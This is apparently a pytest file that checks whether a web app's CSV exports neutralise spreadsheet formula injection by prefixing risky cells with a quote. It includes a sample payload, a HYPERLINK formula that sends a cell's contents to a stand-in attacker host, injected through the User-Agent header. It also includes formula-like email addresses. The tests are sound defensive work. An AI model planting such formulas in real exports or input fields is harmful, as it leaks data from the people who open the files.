"""The CSV exports: nothing in a cell is run as a formula by the spreadsheet that opens it."""

from __future__ import annotations

import csv
import io

import pytest

from tests.factories import create_subscriber
from tests.helpers import sign_in, sign_up
from updates.subscribers.exports import neutralised

HYPERLINK = '=HYPERLINK("https://attacker.example/?"&A2,"Click for details")'


def downloaded(client, path: str) -> list[dict[str, str]]:
    response = client.get(path)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def admin(app, people):
    client = app.test_client()
    sign_in(client, "admin@example.org")
    return client


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(start):
    assert neutralised(f"{start}1+2") == f"'{start}1+2"


@pytest.mark.parametrize("value", ["ada@example.org", "'quoted", " =spaced", "", None, 42])
def test_other_cells_are_left_as_they_are(value):
    assert neutralised(value) == value


def test_the_consent_trail_neutralises_a_visitors_user_agent_and_address(app, admin, client):
    client.environ_base["HTTP_USER_AGENT"] = HYPERLINK
    assert sign_up(client, "=2+5@example.com", ["lps"]).status_code == 200
    [row] = downloaded(admin, "/admin/exports/consent.csv")
    assert row["email"] == "'=2+5@example.com"
    assert row["user_agent"] == "'" + HYPERLINK
    assert row["action"] == "requested"


def test_the_subscriber_export_neutralises_every_formula_start(app, admin):
    for address in ["=2+5@example.com", "+44@example.com", "-1@example.com"]:
        create_subscriber(address, ["lps"])
    rows = downloaded(admin, "/admin/exports/subscribers.csv?topic=lps")
    assert [row["email"] for row in rows] == [
        "reader@example.org",
        "'=2+5@example.com",
        "'+44@example.com",
        "'-1@example.com",
    ]
    assert {row["status"] for row in rows} == {"active"}
